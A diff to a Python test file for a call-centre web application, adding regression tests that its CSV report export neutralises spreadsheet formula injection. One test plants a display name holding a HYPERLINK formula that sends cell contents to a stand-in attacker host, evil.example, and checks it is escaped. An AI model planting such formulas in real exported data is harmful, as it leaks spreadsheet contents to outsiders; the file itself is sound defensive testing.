@@ -10,7 +10,8 @@ from typing import Any
 from web_world import World
 
 from pbx_stasis.acd.directory import AcdDirectory
-from pbx_stasis.store.tables import CallEvent, Role
+from pbx_stasis.store.tables import CallEvent, Role, User
+from pbx_stasis.web.csvfile import csv_text, spreadsheet_cell
 
 CALL = "a" * 32  # acme's call in the seeded world (globex has "c" * 32)
 
@@ -85,3 +86,32 @@ async def test_a_bad_period_is_refused_with_the_field(world: World) -> None:
         fields = (await response.json())["fields"]
         if message is not None:
             assert message in fields.values(), (query, fields)
+
+
+async def test_report_csv_does_not_pass_formulas_to_spreadsheets(world: World) -> None:
+    # The finding: a display name =HYPERLINK(...) reached the CSV as a live formula.
+    agent = world.person("acme", Role.AGENT)
+    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
+    async with world.db.transaction() as tx:
+        user = await tx.get(User, agent.user_id)
+        assert user is not None
+        user.display_name = hostile
+    await _journal(world, "acme", CALL,
+                   ("ENTERQUEUE", 0, {}), ("OFFER", 0, {}), ("CONNECT", 0, {"wait": 15.0}),
+                   ("COMPLETEAGENT", 2, {"wait": 15.0, "talk": 90.0}), agent=agent.user_id)
+    manager = await world.log_in(world.person("acme", Role.MANAGER))
+    download = await world.request(manager, "GET", "/api/reports/csv?from=2026-11-23&table=agents")
+    assert download.status == 200
+    [row] = list(csv.DictReader(io.StringIO(await download.text())))
+    assert row["name"] == "'" + hostile
+    assert (row["agent_user_id"], row["answered"], row["talk"]) == (str(agent.user_id), "1", "90.0")
+
+
+def test_every_formula_start_is_neutralised_and_numbers_stay_numbers() -> None:
+    for text in ("=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1+1", "-"):
+        assert spreadsheet_cell(text) == "'" + text
+    for value in (-3, -0.5, 0, 12.5, True, "Support", "2026-11-23", "a=b", " =text"):
+        assert spreadsheet_cell(value) == value
+    assert spreadsheet_cell(None) == ""
+    text = csv_text(["name", "delta"], [{"name": "-x", "delta": -4}, {"name": "ok", "delta": None}])
+    assert text.splitlines() == ["name,delta", "'-x,-4", "ok,"]
